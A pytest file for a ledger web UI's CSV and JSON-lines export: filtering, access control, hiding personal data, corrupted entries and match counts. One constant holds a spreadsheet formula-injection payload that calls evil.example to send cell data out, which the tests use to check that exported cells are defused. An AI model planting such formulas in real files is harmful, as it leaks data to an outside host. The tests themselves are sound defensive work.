"""The entries as a file: what is in it, who gets it, and what a spreadsheet does not run."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import pytest
from sqlalchemy import text

from ledger.core.merkle import leaf_hash
from ledger.store.database import reading
from ledger.store.entries import Filter, Matches, count_entries
from tests.webui.seed import Seeded, seed
from webui.cells import guarded
from webui.pages import exporting
from webui.pages.explorer import counted

if TYPE_CHECKING:
    from tests.webui.house import House

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def seeded(house: House) -> Seeded:
    return seed(house)


def lines(client: object, query: str = "") -> list[dict]:
    answer = client.get(f"/ledger/export?format=jsonl{query}")
    assert answer.status_code == 200
    return [json.loads(line) for line in answer.text.splitlines()]


def cells(client: object, query: str = "") -> list[dict]:
    answer = client.get(f"/ledger/export?format=csv{query}")
    assert answer.content_type == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_json_lines_hold_every_entry_with_its_leaf_and_statement(
    seeded: Seeded, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "AT_ONCE", 3)
    log = seeded.house.wiring.log
    found = lines(seeded.browser("ana"))
    assert [line["sequence"] for line in found] == list(range(seeded.house.size))
    for line, row in zip(found, log.stored(), strict=True):
        assert line["leaf_hash"] == leaf_hash(row.envelope).hex()
        assert line["statement"]["predicate"]["log"]["sequence"] == row.sequence


def test_the_file_holds_what_the_filters_leave_and_is_named_after_it(seeded: Seeded) -> None:
    client = seeded.browser("ana")
    assert [line["kind"] for line in lines(client, "&kind=model.registered")] == [
        "model.registered"
    ]
    answer = client.get("/ledger/export?format=csv&model=churn")
    size = seeded.house.size
    wanted = f'attachment; filename="counterseal-main-{size}-entries-filtered.csv"'
    assert answer.headers["Content-Disposition"] == wanted
    assert answer.text.count("\r\n") == 5


def test_what_people_wrote_comes_only_where_it_is_asked_for(seeded: Seeded) -> None:
    client = seeded.browser("ana")
    for query in ("/ledger/export?format=jsonl", "/ledger/export?format=csv"):
        bare = client.get(query).text
        assert "Ana Kova" not in bare
        assert "ana@example.org" not in bare
        assert "ana@example.org" in client.get(f"{query}&words=yes").text


def test_strangers_get_no_file_and_no_number(seeded: Seeded) -> None:
    client = seeded.house.client()
    for path in ("/ledger/export?format=jsonl", "/ledger/export?format=csv", "/ledger/count"):
        answer = client.get(path)
        assert (answer.status_code, "/login" in answer.headers["Location"]) == (302, True)


def test_no_cell_is_a_formula(seeded: Seeded) -> None:
    asker = seeded.house.api(seeded.house.token(seeded.bo))
    wanted = {"model": "churn", "version": "1.0.0", "environment": "staging", "note": FORMULA}
    number = asker.submit("release.requested", wanted).json["sequence"]
    row = next(
        row
        for row in cells(seeded.browser("ana"), "&words=yes&kind=release.requested")
        if row["sequence"] == str(number)
    )
    assert row["words_note"] == f"'{FORMULA}"
    for found in cells(seeded.browser("ana"), "&words=yes"):
        assert not [cell for cell in found.values() if cell[:1] in set("=+-@\t\r\n")]


@pytest.mark.parametrize("first", list("=+-@\t\r\n\uff1d"))
def test_a_cell_that_begins_as_a_formula_is_text(first: str) -> None:
    assert guarded(f"{first}1+1") == f"'{first}1+1"
    assert guarded(f"a{first}") == f"a{first}"


def test_an_unreadable_entry_is_named_in_the_file(seeded: Seeded) -> None:
    with seeded.house.wiring.engine.begin() as sql:
        sql.execute(text("DROP TRIGGER entry_refuses_update"))
        sql.execute(text("UPDATE entry SET envelope = x'7b7d' WHERE sequence = 5"))
    client = seeded.browser("ana")
    assert "can't be read any more" in lines(client)[5]["problem"]
    assert "can't be read any more" in cells(client)[5]["statement"]


def test_another_format_is_refused(seeded: Seeded) -> None:
    assert seeded.browser("ana").get("/ledger/export?format=xlsx").status_code == 422


def test_the_number_of_matches_is_told_beside_the_filters(seeded: Seeded) -> None:
    client = seeded.browser("ana")
    assert client.get("/ledger/count?kind=model.registered").json == {
        "count": 1,
        "at_least": False,
        "said": "1 entry matches",
    }
    everything = client.get("/ledger/count").json
    assert everything["count"] == seeded.house.size
    assert f"{seeded.house.size} entries match" in client.get("/ledger").text
    assert "0 entries match" in client.get("/ledger?model=nothing%00else").text


def test_counting_stops_where_it_would_cost_too_much(any_house: House) -> None:
    log, size = any_house.wiring.log, any_house.size
    with reading(log.engine) as connection:

        def count(most: int, newest: int, **wanted: object) -> Matches:
            return count_entries(connection, log.log_id, Filter(**wanted), most=most, newest=newest)

        every = Filter(since="2020-01-01").since
        assert count(9_999, 1, since=every) == Matches(size, at_least=False)
        assert count(2, 1, since=every) == Matches(2, at_least=True)
        assert count(9_999, 2, outcome="allow") == Matches(2, at_least=True)
        assert count(9_999, 99, outcome="allow") == Matches(size, at_least=False)
    assert counted(Matches(10_000, at_least=True)) == "more than 10,000 entries match"
    assert counted(Matches(3, at_least=True)) == "3 of the newest 100,000 entries match"
